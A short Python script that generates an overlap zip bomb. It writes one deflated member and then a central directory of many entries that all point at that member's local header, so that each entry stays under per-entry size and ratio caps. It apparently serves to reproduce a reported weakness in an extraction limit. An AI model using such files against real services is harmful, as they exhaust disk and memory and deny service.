"""Build an overlap zip bomb: one deflated member, and a central directory with COUNT entries that all point at
its local header (the trick of issue 9 item 3: each entry passes the per-entry size and ratio caps, together they
inflate COUNT times the member). Usage: overlap-zip.py OUT COUNT MEMBER_BYTES"""
import struct
import sys
import zipfile

out, count, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
# A 2 KB block of hex repeated: deflates about 100:1, under the 200:1 per-entry ratio cap.
block = "".join("%08x\n" % (i * 2654435761 % 2**32) for i in range(228)).encode()
data = (block * (size // len(block) + 1))[:size]
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("a.json", data)
buf = open(out, "rb").read()
eocd = buf.rindex(b"PK\x05\x06")
cd_size, cd_off = struct.unpack_from("<II", buf, eocd + 12)
cen = buf[cd_off : cd_off + cd_size]
name_len = struct.unpack_from("<H", cen, 28)[0]
entries = []
for i in range(count):
    name = ("a%06d.json" % i).encode()
    e = bytearray(cen[: 46] + name)
    struct.pack_into("<HHH", e, 28, len(name), 0, 0)
    entries.append(bytes(e))
new_cd = b"".join(entries)
end = bytearray(buf[eocd : eocd + 22])
struct.pack_into("<HHII", end, 8, count, count, len(new_cd), cd_off)
open(out, "wb").write(buf[:cd_off] + new_cd + bytes(end))
